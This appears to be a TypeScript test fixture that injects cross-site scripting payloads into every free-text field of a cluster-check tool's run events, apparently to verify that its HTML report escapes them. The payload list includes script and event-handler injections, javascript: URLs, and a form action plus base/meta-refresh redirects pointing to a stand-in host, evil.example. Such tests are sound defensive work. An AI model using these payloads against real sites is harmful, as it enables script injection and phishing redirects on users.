import type { RunEvent } from '../../src/results/event.ts';
import { everyVerdict, hostile } from './every-verdict.ts';

/** What somebody might write who knows that it ends in a page. */
export const payloads: readonly string[] = [
  ...hostile,
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '" autofocus onfocus="alert(1)" x="',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '</style><script>alert(1)</script>',
  '</title></head><body onload=alert(1)>',
  '--><svg onload=alert(1)>',
  '<!--',
  '</main></details></td></tr></table><form action="https://evil.example"><input name=search>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '\u0645\u0631\u062d\u0628\u0627 \u202emoc.elpmaxe',
];

/** Members that hold what somebody else wrote, whoever that is: the cluster, an author of checks, a file of waivers. */
const free = new Set(
  [
    ['target', 'cluster', 'clusterUid', 'asOf', 'started', 'ended', 'reasons', 'notes', 'namespaces', 'absent'],
    ['resource', 'of', 'detail', 'remedy', 'key', 'reason', 'owner', 'until', 'plugin', 'version', 'digest'],
    ['title', 'reference', 'kind', 'namespace', 'name', 'message', 'text', 'evidence', 'since', 'stack', 'via'],
  ].flat(),
);

/** The run with every verdict, in which every such string is this one; names of checks only end with it. */
export const poisoned = (payload: string): readonly RunEvent[] => everyVerdict.map(event => poison(event, payload));

function poison<T>(value: T, payload: string, name = ''): T {
  if (typeof value === 'string') {
    // Checks keep their layers and their order.
    if (name === 'check' || name === 'id' || name === 'via')
      return (value.includes('|') ? value : `${value}/${payload.replaceAll(':', '.')}`) as T;
    return (free.has(name) ? payload : value) as T;
  }
  if (Array.isArray(value)) return value.map(one => poison(one, payload, name)) as T;
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([key, member]) => [key, poison(member, payload, key)]);
  // Nobody but a finding has them all, and no finding in the run has them.
  const more = 'evidence' in value ? { key: payload, since: payload, related: [{ kind: payload, name: payload }] } : {};
  return { ...Object.fromEntries(entries), ...more } as T;
}
